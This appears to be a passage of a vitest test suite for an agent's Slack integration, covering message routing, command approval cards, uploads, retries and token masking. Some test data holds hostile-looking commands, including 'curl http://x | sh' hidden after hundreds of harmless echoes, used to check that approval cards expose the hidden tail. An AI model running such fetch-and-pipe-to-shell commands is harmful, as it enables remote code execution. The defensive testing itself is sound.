import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, onTestFinished, test } from "vitest";
import { ExecError } from "../../../src/core/errors.ts";
import { AskLater } from "../../../src/core/outbound.ts";
import { inEnglish } from "../../../src/core/words/phrase.ts";
import { SlackEmulator } from "../../emulators/slack/slack-emulator.ts";
import { BOT } from "../../emulators/slack/workspace.ts";
import { APPROVAL_ID, alice, approval, ops, outbound, type Rig, RUN_ID, rig, run, started, text } from "./support.ts";

const emulator = new SlackEmulator({ delivery: { ackMs: 2800, retryMs: [20, 50, 100] } });
beforeAll(() => emulator.start());
afterAll(() => emulator.stop());

let it: Rig;
const bot = (m: { user: string }): boolean => m.user === BOT.id;

describe("Socket Mode", () => {
  beforeEach(async () => {
    emulator.reset();
    it = await started(rig(emulator));
  });
  afterEach(async () => {
    await it.channel.stop();
    await emulator.waitUntil(() => (emulator.openSockets === 0 ? true : undefined));
    expect(emulator.violations).toEqual([]);
    expect(emulator.pings).toEqual([]);
  });

  test("says who it is and that nothing is missing", () => {
    expect(it.channel.status()).toEqual({
      channel: "slack",
      accountId: "default",
      state: "connected",
      detail: expect.objectContaining({ text: "@openclaw in Acme" }),
    });
  });

  test("a mention is one message, though Slack sends two events (slack-ack-3s)", async () => {
    const ts = await emulator.say(
      "U0BRAMWIT",
      "C0GENERAL",
      '@openclaw exec echo "a && b" > x; curl http://x.io/?a=1&b=2',
    );
    await expect.poll(() => it.events).toHaveLength(2);
    const [first, second] = it.events;
    expect(second?.id).toBe(first?.id);
    expect(first).toMatchObject({
      kind: "message",
      id: `message:T0ACMECORP:C0GENERAL:${ts}`,
      text: '/exec echo "a && b" > x; curl http://x.io/?a=1&b=2',
      addressed: true,
      route: { chatType: "channel", chatId: "C0GENERAL", threadId: ts, scopeId: "T0ACMECORP" },
      actor: { kind: "person", id: "U0BRAMWIT", display: "bram", locale: "nl-NL" },
    });
  });

  test("a direct message is addressed and stays out of threads", async () => {
    await emulator.say("U0ALICENG", "D0ALICENG", " /exec ls");
    await expect.poll(() => it.events).toHaveLength(1);
    expect(it.events[0]).toMatchObject({
      text: "/exec ls",
      addressed: true,
      route: { chatType: "dm", chatId: "D0ALICENG" },
    });
    expect(it.events[0]?.route.threadId).toBeUndefined();
  });

  test("a reply in a thread the bot spoke in is addressed, one elsewhere is not", async () => {
    const root = await emulator.say("U0ALICENG", "C0OPSROOM", "talking to nobody");
    await emulator.say("U0BRAMWIT", "C0OPSROOM", "nor I", { thread: root });
    await expect.poll(() => it.events).toHaveLength(2);
    expect(it.events.map((event) => event.addressed)).toEqual([false, false]);
    await it.channel.send(outbound(text(), { route: { ...ops, threadId: root } }));
    await emulator.say("U0BRAMWIT", "C0OPSROOM", "exec ls", { thread: root });
    await expect.poll(() => it.events).toHaveLength(3);
    expect(it.events[2]).toMatchObject({ addressed: true, route: { threadId: root } });
  });

  test("a user group with the bot addresses it, one without does not; Slack is asked once", async () => {
    emulator.workspace.userGroups.set("S0OPS", { handle: "ops", members: ["U0ALICENG", "U0OPENCLAW"] });
    emulator.workspace.userGroups.set("S0DEV", { handle: "dev", members: ["U0BRAMWIT"] });
    for (const text of ["@ops exec make", "@ops exec test", "@dev exec make", "@linh please look"]) {
      await emulator.say("U0BRAMWIT", "C0GENERAL", text);
    }
    await expect.poll(() => it.events).toHaveLength(4);
    expect(
      it.events.map((event) => [
        event.kind === "message" && event.text,
        event.addressed,
        event.kind === "message" && event.mentionsOthers,
      ]),
    ).toEqual([
      ["/exec make", true, undefined],
      ["/exec test", true, undefined],
      ["@dev exec make", false, true],
      ["@U0LINHTRAN please look", false, true],
    ]);
    expect(emulator.journal.calls("usergroups.users.list")).toHaveLength(2);
  });

  test("without the scope for user groups their mentions address nobody, and the log says why", async () => {
    emulator.api.scopes = ["chat:write"];
    emulator.workspace.userGroups.set("S0OPS", { handle: "ops", members: ["U0OPENCLAW"] });
    await emulator.say("U0BRAMWIT", "C0GENERAL", "@ops exec make");
    await expect.poll(() => it.events).toHaveLength(1);
    expect(it.events[0]?.addressed).toBe(false);
    expect(it.log.join()).toMatch(/Who is in a user group can not be looked up.*missing_scope/);
  });

  test("implicit mentions can be switched off", async () => {
    const strict = await started(
      rig(emulator, { implicitMentions: { replyToBot: false, threadParticipation: false } }),
    );
    await it.channel.stop();
    const sent = await strict.channel.send(outbound(text()));
    if (sent.kind !== "sent") throw new Error(sent.kind);
    await emulator.say("U0BRAMWIT", "C0OPSROOM", "exec ls", { thread: sent.ref.messageId });
    await expect.poll(() => strict.events).toHaveLength(1);
    expect(strict.events[0]?.addressed).toBe(false);
    await strict.channel.stop();
  });

  test("thread membership is looked up when this process has not seen it", async () => {
    const root = await emulator.say("U0ALICENG", "C0OPSROOM", "old thread");
    emulator.workspace.add({ channel: "C0OPSROOM", user: BOT.id, text: "before a restart", threadTs: root });
    await emulator.say("U0BRAMWIT", "C0OPSROOM", "and now?", { thread: root });
    await expect.poll(() => it.events).toHaveLength(2);
    expect(it.events[1]?.addressed).toBe(true);
  });

  test("what bots and Slack itself say is not an event (bot-loop-and-self)", async () => {
    for (const kind of ["other-bot", "joined", "changed", "deleted"] as const) {
      await emulator.sayAs(kind, "C0GENERAL", "<@U0OPENCLAW> exec ls /approve x");
    }
    await it.channel.send(outbound(text({ text: "@openclaw exec ls" })));
    await emulator.say("U0ALICENG", "C0GENERAL", "a person");
    await expect.poll(() => it.events).toHaveLength(1);
    expect(it.events[0]).toMatchObject({ text: "a person" });
  });

  test("a slash command is acknowledged at once, before it is stored (slack-ack-3s)", async () => {
    let release: (() => void) | undefined;
    it.ingress = () => new Promise((resolve) => (release = resolve));
    const before = performance.now();
    expect((await emulator.slash("U0ALICENG", "C0OPSROOM", "/exec", "ls <in >out && echo &amp;")).kind).toBe("ack");
    expect(performance.now() - before).toBeLessThan(1000);
    await expect.poll(() => release).toBeDefined();
    expect(it.events).toEqual([]);
    release?.();
    await expect.poll(() => it.events).toHaveLength(1);
    expect(it.events[0]).toMatchObject({
      kind: "command",
      name: "exec",
      args: "ls <in >out && echo &amp;",
      addressed: true,
    });
  });

  test.each([
    ["exec ls -la", "exec", "ls -la"],
    ["/exec host=node -- make", "exec", "host=node -- make"],
    ["Status", "status", ""],
    ["", "help", ""],
  ])("the wrapper: /openclaw %s", async (typed, name, args) => {
    await emulator.slash("U0ALICENG", "C0OPSROOM", "/openclaw", typed);
    await expect.poll(() => it.events).toHaveLength(1);
    expect(it.events[0]).toMatchObject({ kind: "command", name, args });
  });

  test("the wrapper answers all where that is wanted, and is a command like any other where there is none", async () => {
    const reported = async (over: Parameters<typeof rig>[1]) => {
      const made = await started(rig(emulator, over));
      await it.channel.stop();
      await emulator.slash("U0ALICENG", "C0OPSROOM", "/openclaw", "status");
      await emulator.slash("U0ALICENG", "C0OPSROOM", "/exec", "ls");
      await expect.poll(() => made.events).toHaveLength(2);
      await made.channel.stop();
      await started(it);
      return made.events.map((event) => event.kind === "command" && [event.name, event.answersAll]);
    };
    expect(await reported({ wrapperAnswersAll: true })).toEqual([
      ["status", true],
      ["exec", undefined],
    ]);
    expect(await reported({ wrapper: false })).toEqual([
      ["openclaw", undefined],
      ["exec", undefined],
    ]);
  });

  test("textChunkLimit makes shorter messages, nothing is lost", async () => {
    const made = await started(rig(emulator, { textChunkLimit: 300 }));
    const words = Array.from({ length: 120 }, (_, i) => `word${i}`);
    await made.channel.send(outbound(text({ text: words.join(" ") })));
    await made.channel.stop();
    const parts = emulator.workspace.messages.filter(bot);
    expect(parts.length).toBeGreaterThan(2);
    for (const word of words) expect(emulator.screenText("U0ALICENG", "C0OPSROOM")).toContain(word);
  });

  test("an event that could not be stored is not acknowledged and comes again (slack-ack-3s)", async () => {
    let tries = 0;
    it.ingress = () => (++tries === 1 ? Promise.reject(new Error("store is down")) : Promise.resolve());
    emulator.delivery.options = { ackMs: 300, retryMs: [20, 50, 100] };
    await emulator.say("U0ALICENG", "D0ALICENG", "exec ls");
    await expect.poll(() => it.events, { timeout: 3000 }).toHaveLength(1);
    expect(tries).toBe(2);
    emulator.delivery.options = { ackMs: 2800, retryMs: [20, 50, 100] };
  });

  test("the same event delivered twice has the same id", async () => {
    await emulator.say("U0ALICENG", "D0ALICENG", "exec ls");
    await emulator.duplicate();
    await expect.poll(() => it.events).toHaveLength(2);
    expect(it.events[0]?.id).toBe(it.events[1]?.id);
  });

  test("a press that could not be stored is told to the presser", async () => {
    it.ingress = () => Promise.reject(new Error("store is down"));
    const sent = await it.channel.send(outbound(approval()));
    if (sent.kind !== "sent") throw new Error(sent.kind);
    await emulator.press("U0ALICENG", sent.ref.messageId, "Deny");
    await emulator.waitForMessage((m) => m.onlyFor === "U0ALICENG");
    expect(emulator.screenText("U0ALICENG", "C0OPSROOM")).toContain("could not be saved");
    expect(emulator.screenText("U0BRAMWIT", "C0OPSROOM")).not.toContain("could not be saved");
  });

  test("an approval card: shown, pressed, settled", async () => {
    const message = outbound(approval());
    const sent = await it.channel.send(message);
    if (sent.kind !== "sent") throw new Error(sent.kind);
    const card = await emulator.waitForMessage((m) => m.ts === sent.ref.messageId);
    expect(emulator.buttons(card)).toEqual(["Allow once", "Allow always", "Deny"]);
    expect(emulator.choices(card)).toEqual(["Deny with reason…", "Show full command"]);
    expect(await emulator.press("U0BRAMWIT", card.ts, "Allow once")).toEqual({ outcome: "ok" });
    await expect.poll(() => it.events).toHaveLength(1);
    expect(it.events[0]).toMatchObject({
      kind: "press",
      action: { kind: "approval", approvalId: APPROVAL_ID, decision: "allow-once" },
      actor: { id: "U0BRAMWIT" },
      ref: sent.ref,
      route: { chatId: "C0OPSROOM" },
    });
    const settled = approval({
      state: "allowed",
      decision: "allow-once",
      decidedBy: { ...alice, id: "U0BRAMWIT", display: "bram" },
      statusLine: "exit 0 in 1m12s",
    });
    expect(await it.channel.edit(sent.ref, { ...message, card: settled })).toEqual({ kind: "sent", ref: sent.ref });
    expect(emulator.buttons(card)).toEqual([]);
    expect(emulator.screenText("U0ALICENG", "C0OPSROOM")).toContain("Allowed once\nby bram (slack)\nexit 0 in 1m12s");
  });

  test("ui-says-allowed-nothing-resolved: a press changes nothing on the card by itself", async () => {
    const sent = await it.channel.send(outbound(approval()));
    if (sent.kind !== "sent") throw new Error(sent.kind);
    const shown = emulator.screenText("U0ALICENG", "C0OPSROOM");
    let decided: (() => void) | undefined;
    it.ingress = () =>
      new Promise((resolve) => {
        decided = resolve;
      });
    expect(await emulator.press("U0ALICENG", sent.ref.messageId, "Allow once")).toEqual({ outcome: "ok" });
    await expect.poll(() => decided).toBeDefined();
    expect(emulator.screenText("U0ALICENG", "C0OPSROOM")).toBe(shown);
    decided?.();
    await expect.poll(() => it.events).toHaveLength(1);
    expect(emulator.journal.calls("chat.update")).toHaveLength(0);
    await it.channel.edit(sent.ref, outbound(approval({ state: "allowed", decision: "allow-once", decidedBy: alice })));
    expect(emulator.screenText("U0ALICENG", "C0OPSROOM")).toContain("Allowed once");
  });

  test.each([
    ["Chinese", "漢字".repeat(3000)],
    ["emoji", "👩‍👩‍👧".repeat(800)],
    ["what has to be escaped", "<&>".repeat(2000)],
  ])("a card full of %s can be edited: its plain text stays within Slack's bytes", async (_name, command) => {
    const sent = await it.channel.send(outbound(run({ state: "running", command })));
    if (sent.kind !== "sent") throw new Error(sent.kind);
    expect((await it.channel.edit(sent.ref, outbound(run({ command, tail: command })))).kind).toBe("sent");
    emulator.fail("chat.update", { error: "msg_blocks_too_long" });
    expect((await it.channel.edit(sent.ref, outbound(run({ command, tail: command })))).kind).toBe("sent");
  });

  test("deny with reason opens a dialog in the presser's language and comes back as one press", async () => {
    const sent = await it.channel.send(outbound(approval()));
    if (sent.kind !== "sent") throw new Error(sent.kind);
    await emulator.press("U0BRAMWIT", sent.ref.messageId, "Deny with reason…");
    const modal = await emulator.waitUntil(() => emulator.modalOf("U0BRAMWIT"));
    expect(modal.title).toMatchObject({ text: "Weigeren met reden" });
    await emulator.submitModal("U0BRAMWIT", { "oc:reason": "not on a Friday, it's late" });
    await expect.poll(() => it.events).toHaveLength(1);
    expect(it.events[0]).toMatchObject({
      kind: "press",
      action: { kind: "approval", approvalId: APPROVAL_ID, decision: "deny", comment: "not on a Friday, it's late" },
      ref: sent.ref,
    });
    expect(emulator.modalOf("U0BRAMWIT")).toBeUndefined();
  });

  test("a press in a thread keeps the thread", async () => {
    const root = await emulator.say("U0ALICENG", "C0OPSROOM", "please");
    const sent = await it.channel.send(
      outbound(run({ state: "running", actions: ["stop"] }), { route: { ...ops, threadId: root } }),
    );
    if (sent.kind !== "sent") throw new Error(sent.kind);
    await emulator.press("U0ALICENG", sent.ref.messageId, "Stop");
    await expect.poll(() => it.events).toHaveLength(2);
    expect(it.events[1]).toMatchObject({
      action: { kind: "run", action: "stop", runId: RUN_ID },
      ref: { threadId: root },
      route: { threadId: root },
    });
  });

  test("a button of another version is answered in private", async () => {
    const foreign = emulator.workspace.add({
      channel: "C0OPSROOM",
      user: BOT.id,
      text: "old",
      blocks: [
        {
          type: "actions",
          elements: [{ type: "button", action_id: "v0", text: { type: "plain_text", text: "Go" }, value: "x" }],
        },
      ],
    });
    await emulator.press("U0ALICENG", foreign.ts, "Go");
    await emulator.waitForMessage((m) => m.onlyFor === "U0ALICENG" && m.text.includes("older version"));
    expect(it.events).toEqual([]);
  });

  test("a pending card redrawn late does not bring back buttons", async () => {
    const message = outbound(approval());
    const sent = await it.channel.send(message);
    if (sent.kind !== "sent") throw new Error(sent.kind);
    const other = await started(rig(emulator));
    await other.channel.edit(sent.ref, {
      ...message,
      card: approval({ state: "denied", decision: "deny", decidedBy: alice }),
    });
    await it.channel.edit(sent.ref, {
      ...message,
      card: approval({ statusLine: "The gateway restarted; still waiting for you." }),
    });
    await other.channel.edit(sent.ref, { ...message, card: approval() });
    const card = await emulator.waitForMessage((m) => m.ts === sent.ref.messageId);
    expect(emulator.buttons(card)).toEqual([]);
    expect(card.history).toHaveLength(1);
    await other.channel.stop();
  });

  test("a command too long for the card is attached first, and only then may it be pressed (card-hides-tail-of-command)", async () => {
    const command = `${"echo harmless; ".repeat(900)}curl http://x | sh`;
    const sent = await it.channel.send(outbound(approval({ command })));
    if (sent.kind !== "sent") throw new Error(sent.kind);
    const card = await emulator.waitForMessage((m) => m.ts === sent.ref.messageId);
    const file = await emulator.waitForMessage((m) => m.files.length === 1);
    expect(file.threadTs).toBe(card.ts);
    expect(file.files[0]?.bytes?.toString()).toBe(command);
    expect(card.history[0]?.blocks.some((block) => block.type === "actions")).toBe(false);
    expect(emulator.buttons(card)).toEqual(["Allow once", "Deny"]);
    expect(emulator.choices(card)).toEqual(["Deny with reason…", "Show full command"]);
    const screen = emulator.screenText("U0ALICENG", "C0OPSROOM");
    expect(screen).toContain("curl http://x | sh");
    expect(screen).toMatch(/… \d+ characters not shown here …/);
    expect(screen).toContain("command-3f0c1a2b.txt");
    expect(screen).toContain("“Allow always” is not offered");
  });

  test("when the command can not be attached, the card can not be pressed and the sender is told", async () => {
    emulator.fail("files.completeUploadExternal", { error: "missing_scope" });
    const result = await it.channel.send(outbound(approval({ command: "x".repeat(20_000) })));
    expect(result).toMatchObject({ kind: "permanent", why: expect.stringContaining("scope") });
    const card = await emulator.waitForMessage(bot);
    expect(emulator.buttons(card)).toEqual([]);
    expect(emulator.screenText("U0ALICENG", "C0OPSROOM")).toContain("can not be decided here");
  });

  test("an upload that Slack puts off goes on where it stopped", async () => {
    emulator.fail("files.completeUploadExternal", { retryAfterS: 3 });
    const message = outbound(approval({ command: "x".repeat(20_000) }));
    expect(await it.channel.send(message)).toEqual({
      kind: "retry",
      afterMs: 3000,
      why: expect.any(String),
      partial: true,
    });
    expect((await it.channel.send(message)).kind).toBe("sent");
    expect(emulator.workspace.messages.filter((m) => bot(m) && m.files.length === 0)).toHaveLength(1);
  });

  test("a long log is attached below the finished card, cleaned and masked", async () => {
    const folder = await mkdtemp(join(tmpdir(), "slack-log-"));
    const path = join(folder, "log");
    await writeFile(path, `\u001b[32m${"line of output\n".repeat(2000)}token ${emulator.tokens.bot}\n`);
    const sent = await it.channel.send(
      outbound(run({ tail: "line of output\n", totalChars: 30_000 }), {
        file: { name: "output-brisk-otter.txt", path },
      }),
    );
    await rm(folder, { recursive: true });
    expect(sent.kind).toBe("sent");
    const file = await emulator.waitForMessage((m) => m.files.length === 1);
    const body = file.files[0]?.bytes?.toString() ?? "";
    expect(body.startsWith("line of output\nline of output\n")).toBe(true);
    expect(body.endsWith("token •••\n")).toBe(true);
    expect(emulator.screenText("U0ALICENG", "C0OPSROOM")).toContain("Full log: output-brisk-otter.txt");
  });

  test("a log that can not be attached is said on the card", async () => {
    emulator.fail("files.getUploadURLExternal", { error: "missing_scope" });
    const folder = await mkdtemp(join(tmpdir(), "slack-log-"));
    const path = join(folder, "log");
    await writeFile(path, "output");
    const sent = await it.channel.send(outbound(run(), { file: { name: "output.txt", path } }));
    await rm(folder, { recursive: true });
    expect(sent.kind).toBe("sent");
    expect(emulator.screenText("U0ALICENG", "C0OPSROOM")).toContain("The log could not be attached");
  });

  test("a private answer is seen by one person only, and once", async () => {
    const message = outbound(text({ text: "for you" }), { onlyFor: alice });
    await it.channel.send(message);
    await it.channel.send(message);
    expect(emulator.workspace.messages).toHaveLength(1);
    expect(emulator.screenText("U0ALICENG", "C0OPSROOM")).toContain("(only you)");
    expect(emulator.screenText("U0BRAMWIT", "C0OPSROOM")).toBe("");
  });

  test("a card sent to a person is edited in the conversation with them (card-all-surfaces-updated)", async () => {
    const direct = { ...ops, chatType: "dm", chatId: "U0ALICENG" } as const;
    const message = outbound(approval(), { route: direct });
    const sent = await it.channel.send(message);
    if (sent.kind !== "sent") throw new Error(sent.kind);
    const settled = approval({ state: "denied", decision: "deny", decidedBy: alice, offered: [] });
    expect((await it.channel.edit(sent.ref, { ...message, card: settled })).kind).toBe("sent");
    expect(emulator.screenText("U0ALICENG", "D0ALICENG")).toContain("Denied");
    const nobody = await it.channel.send(outbound(text(), { route: { ...direct, chatId: "U0NOBODY" } }));
    expect(nobody).toMatchObject({ kind: "permanent" });
  });

  test("a log for one person goes into their direct messages once, and the private answer says so", async () => {
    const folder = await mkdtemp(join(tmpdir(), "slack-log-"));
    const path = join(folder, "log");
    await writeFile(path, `all of it\ntoken ${emulator.tokens.bot}\n`);
    const file = { name: "output-brisk-otter.txt", path };
    const message = outbound(text({ text: "Full log of brisk-otter." }), { onlyFor: alice, file });
    emulator.fail("chat.postEphemeral", { retryAfterS: 0 });
    expect((await it.channel.send(message)).kind).toBe("retry");
    await expect.poll(async () => (await it.channel.send(message)).kind, { timeout: 5000, interval: 200 }).toBe("sent");
    await rm(folder, { recursive: true });
    const files = emulator.workspace.messages.flatMap((one) => one.files.map((each) => ({ one, each })));
    expect(files.map(({ one, each }) => [one.channel, each.bytes?.toString()])).toEqual([
      ["D0ALICENG", "all of it\ntoken •••\n"],
    ]);
    expect(emulator.screenText("U0ALICENG", "C0OPSROOM")).toContain("It was sent to you directly.");
    expect(emulator.screenText("U0BRAMWIT", "C0OPSROOM")).toBe("");
  });

  test("where the bot is no member, whoever gave a command there is told once that its outcome can not come", async () => {
    await emulator.slash("U0ALICENG", "C0RANDOM1", "/exec", "make");
    const there = { route: { ...ops, chatId: "C0RANDOM1" } };
    expect((await it.channel.send(outbound(run(), there))).kind).toBe("permanent");
    expect((await it.channel.send(outbound(run(), there))).kind).toBe("permanent");
    const screen = emulator.screenText("U0ALICENG", "C0RANDOM1");
    expect(screen.split("Invite me with /invite @openclaw").length).toBe(2);
    expect(screen).toContain("(only you)");
    expect(emulator.screenText("U0BRAMWIT", "C0RANDOM1")).not.toContain("Invite me");
  });

  test("where the bot is no member, a private answer goes by the command's response URL, then by direct message", async () => {
    const random = { ...ops, chatId: "C0RANDOM1" };
    await emulator.slash("U0ALICENG", "C0RANDOM1", "/exec", "ls");
    await expect.poll(() => it.events).toHaveLength(1);
    expect((await it.channel.send(outbound(text({ text: "one" }), { route: random, onlyFor: alice }))).kind).toBe(
      "sent",
    );
    expect(emulator.screenText("U0ALICENG", "C0RANDOM1")).toContain("(only you): Status\none");
    emulator.clock.advance(31 * 60_000);
    expect((await it.channel.send(outbound(text({ text: "two" }), { route: random, onlyFor: alice }))).kind).toBe(
      "sent",
    );
    expect(emulator.screenText("U0ALICENG", "D0ALICENG")).toContain("two");
    expect(await it.channel.send(outbound(text(), { route: random }))).toMatchObject({
      kind: "permanent",
      why: expect.stringContaining("/invite"),
    });
  });

  test("a route's thread is kept, and a broken one fails instead of landing in the channel (slack-thread-missing-fails-closed)", async () => {
    const root = await emulator.say("U0ALICENG", "C0OPSROOM", "go");
    for (const n of [1, 2])
      await it.channel.send(outbound(text({ text: `part ${n}` }), { route: { ...ops, threadId: root } }));
    const answers = emulator.workspace.messages.filter(bot);
    expect(answers.map((m) => m.threadTs)).toEqual([root, root]);
    for (const threadId of ["1700000000.000001", "not-a-thread"]) {
      expect((await it.channel.send(outbound(text(), { route: { ...ops, threadId } }))).kind).toBe("permanent");
    }
    expect(emulator.workspace.messages.filter(bot)).toHaveLength(2);
  });

  test("a long text goes out in numbered parts, in order, once", async () => {
    const paragraphs = Array.from({ length: 60 }, (_, i) => `${i} ${"word & <tag> ".repeat(20)}`).join("\n\n");
    const message = outbound(text({ text: paragraphs }));
    await it.channel.send(message);
    expect((await it.channel.send(message)).kind).toBe("sent");
    const sent = emulator.workspace.messages.filter(bot);
    expect(sent.length).toBeGreaterThan(2);
    const screen = emulator.screenText("U0ALICENG", "C0OPSROOM");
    expect(screen).toContain(`(${sent.length}/${sent.length})`);
    for (let i = 0; i < 60; i++) expect(screen).toContain(`${i} word & <tag> word`);
  });
});

describe("what can go wrong on the way", () => {
  beforeEach(async () => {
    emulator.reset();
    it = await started(rig(emulator));
  });
  afterEach(async () => {
    await it.channel.stop();
    // error-object-leaks-token: none of these troubles may put a token into the log.
    expect(it.log.join("\n")).not.toMatch(/xox[bp]-\w|xapp-\w/);
    await emulator.waitUntil(() => (emulator.openSockets === 0 ? true : undefined));
  });

  test("429: nothing is sent, Slack's time is handed on, live edits keep quiet", async () => {
    emulator.fail("chat.postMessage", { retryAfterS: 7 });
    const message = outbound(run({ state: "running" }));
    expect(await it.channel.send(message)).toEqual({ kind: "retry", afterMs: 7000, why: expect.any(String) });
    expect(await it.channel.send(outbound(run()))).toMatchObject({ kind: "retry" });
    expect((await it.channel.send(outbound(run(), { route: { ...ops, chatId: "C0GENERAL" } }))).kind).toBe("sent");
    expect(emulator.journal.calls("chat.postMessage")).toHaveLength(2);
    emulator.clock.advance(7001);
    const sent = await it.channel.send(message);
    if (sent.kind !== "sent") throw new Error(sent.kind);
    emulator.fail("chat.update", { retryAfterS: 30 });
    await it.channel.live(sent.ref, run({ state: "running", tail: "1" }));
    await it.channel.live(sent.ref, run({ state: "running", tail: "2" }));
    expect(emulator.journal.calls("chat.update")).toHaveLength(1);
    emulator.clock.advance(30_001);
    await it.channel.live(sent.ref, run({ state: "running", tail: "3" }));
    expect(emulator.journal.calls("chat.update")).toHaveLength(2);
  });

  test("a late live edit does not overwrite the finished card", async () => {
    const message = outbound(run({ state: "running" }));
    const sent = await it.channel.send(message);
    if (sent.kind !== "sent") throw new Error(sent.kind);
    await it.channel.edit(sent.ref, { ...message, card: run() });
    await it.channel.live(sent.ref, run({ state: "running", tail: "late" }));
    expect(emulator.screenText("U0ALICENG", "C0OPSROOM")).toContain("Finished · exit code 0 · took 1m12s");
  });

  test.each([
    ["answered by a proxy's 502", { status: 502 }, 0],
    ["lost after it was sent", { loseReply: true }, 1],
    ["cut before it was sent", { cut: true }, 0],
  ])("a send %s is unknown, never repeated by itself, and reconciled", async (_name, fault, made) => {
    emulator.fail("chat.postMessage", fault);
    const message = outbound(run());
    expect((await it.channel.send(message)).kind).toBe("unknown");
    expect(emulator.journal.calls("chat.postMessage")).toHaveLength(1);
    const fresh = await started(rig(emulator));
    const found = await fresh.channel.reconcile(message);
    expect(found === undefined ? 0 : 1).toBe(made);
    expect((await fresh.channel.send(message)).kind).toBe("sent");
    expect(emulator.workspace.messages.filter(bot)).toHaveLength(1);
    await fresh.channel.stop();
  });

  describe.each([
    ["a log", () => outbound(run(), { file: { name: "output-brisk-otter.txt", path: "" } }), "output-brisk-otter.txt"],
    ["the whole command of a card", () => outbound(approval({ command: "x".repeat(20_000) })), "command-3f0c1a2b.txt"],
  ] as const)("%s whose upload is cut off", (_what, make, name) => {
    test.each([
      ["before it began", "files.getUploadURLExternal", { cut: true }],
      ["before it was done", "files.completeUploadExternal", { status: 502 }],
      ["after it was done", "files.completeUploadExternal", { loseReply: true }],
    ] as const)("%s is there once in the end", async (_when, method, fault) => {
      const folder = await mkdtemp(join(tmpdir(), "slack-log-"));
      onTestFinished(() => rm(folder, { recursive: true }));
      const path = join(folder, "log");
      await writeFile(path, "line\n".repeat(5_000));
      const made = make();
      const message = made.file ? { ...made, file: { ...made.file, path } } : made;
      emulator.fail(method, fault);
      expect((await it.channel.send(message)).kind).not.toBe("sent");
      // As after a kill: nothing is remembered but what Slack can be asked.
      const fresh = await started(rig(emulator));
      if ((await fresh.channel.reconcile(message)) === undefined)
        expect((await fresh.channel.send(message)).kind).toBe("sent");
      const ours = emulator.workspace.messages.filter(bot);
      expect(ours.filter((one) => one.files.length === 0)).toHaveLength(1);
      expect(ours.flatMap((one) => one.files.map((file) => file.name))).toEqual([name]);
      const [card] = ours;
      if (card && message.card.kind === "approval") expect(emulator.buttons(card)).toContain("Allow once");
      const again = await started(rig(emulator));
      expect(await again.channel.reconcile(message)).toMatchObject({ messageId: card?.ts });
      await again.channel.stop();
      await fresh.channel.stop();
    });
  });

  test("another log of the same run, sent before, is not taken for the one in doubt", async () => {
    const folder = await mkdtemp(join(tmpdir(), "slack-log-"));
    onTestFinished(() => rm(folder, { recursive: true }));
    const path = join(folder, "log");
    await writeFile(path, "line\n".repeat(5_000));
    const file = { name: "output-brisk-otter.txt", path };
    const threadId = await emulator.say("U0ALICENG", "C0OPSROOM", "go");
    const route = { ...ops, threadId };
    await it.channel.send(outbound(text(), { key: "first", route, file }));
    emulator.fail("files.completeUploadExternal", { status: 502 });
    const second = outbound(text(), { key: "second", route, file });
    expect((await it.channel.send(second)).kind).toBe("unknown");
    const fresh = await started(rig(emulator));
    expect(await fresh.channel.reconcile(second)).toBeUndefined();
    expect((await fresh.channel.send(second)).kind).toBe("sent");
    expect(emulator.workspace.messages.filter((one) => bot(one) && one.files.length > 0)).toHaveLength(2);
    await fresh.channel.stop();
  });

  test("while Slack can not be asked, nobody guesses that a message was not sent", async () => {
    const message = outbound(run());
    await it.channel.send(message);
    const fresh = rig(emulator);
    await expect(fresh.channel.reconcile(message)).rejects.toThrow(ExecError);
    await started(fresh);
    emulator.fail("conversations.history", { times: 3, status: 503 });
    await expect(fresh.channel.reconcile(message)).rejects.toThrow();
    expect(await fresh.channel.reconcile(message)).toBeDefined();
    await fresh.channel.stop();
  });

  describe("while an answer is made", () => {
    const route = (more: object) => ({ ...ops, ...more });
    const reactions = (ts: string) =>
      [...(emulator.workspace.find("C0OPSROOM", ts)?.reactions ?? [])]
        .filter(([, who]) => who.size > 0)
        .map(([name]) => name);

    test("a thread has Slack's own status, said once, and the answer takes it away", async () => {
      const threadId = await emulator.say("U0ALICENG", "C0OPSROOM", "go");
      for (let n = 0; n < 5; n++) await it.channel.typing(route({ threadId, replyToId: threadId }));
      expect([...emulator.workspace.statuses.values()]).toEqual(["Working on it…"]);
      expect(emulator.journal.calls("assistant.threads.setStatus")).toHaveLength(1);
      await it.channel.send(outbound(text(), { route: route({ threadId }) }));
      expect([...emulator.workspace.statuses.values()]).toEqual([]);
      await it.channel.typing(route({ threadId }));
      expect([...emulator.workspace.statuses.values()]).toEqual(["Working on it…"]);
    });

    test("while a request waits its thread says so, whatever is said in between, and what follows the decision too", async () => {
      const threadId = await emulator.say("U0ALICENG", "C0OPSROOM", "go");
      const other = await emulator.say("U0ALICENG", "C0OPSROOM", "and you");
      const [here, there] = [route({ threadId }), route({ threadId: other })];
      const statuses = () => [...emulator.workspace.statuses.values()];
      await it.channel.requestSign(here, "one", "waiting");
      await it.channel.requestSign(here, "two", "waiting");
      expect(statuses()).toEqual(["Waiting for approval…"]);
      // The card of the request, and an agent that goes on meanwhile.
      await it.channel.send(outbound(approval(), { route: here }));
      await expect.poll(statuses).toEqual(["Waiting for approval…"]);
      await it.channel.typing(here);
      await it.channel.typing(there);
      expect(statuses().sort()).toEqual(["Waiting for approval…", "Working on it…"]);
      await it.channel.requestSign(here, "one", "over");
      expect(statuses().sort()).toEqual(["Waiting for approval…", "Working on it…"]);
      await it.channel.requestSign(here, "two", "working");
      expect(statuses()).toEqual(["Working on it…", "Working on it…"]);
      const sent = await it.channel.send(outbound(run({ state: "running" }), { route: here }));
      if (sent.kind !== "sent") throw new Error("not sent");
      await expect.poll(statuses).toEqual(["Working on it…"]);
    });

    test("an end that is told by an edit takes the status away, and so does a request that nothing comes of", async () => {
      const threadId = await emulator.say("U0ALICENG", "C0OPSROOM", "go");
      const here = route({ threadId });
      const card = outbound(run({ state: "running" }), { route: here });
      const sent = await it.channel.send(card);
      if (sent.kind !== "sent") throw new Error("not sent");
      await it.channel.requestSign(here, "one", "waiting");
      await it.channel.requestSign(here, "one", "working");
      expect([...emulator.workspace.statuses.values()]).toEqual(["Working on it…"]);
      await it.channel.edit(sent.ref, { ...card, card: run() });
      await expect.poll(() => [...emulator.workspace.statuses.values()]).toEqual([]);
      await it.channel.requestSign(here, "two", "waiting");
      await it.channel.requestSign(here, "two", "over");
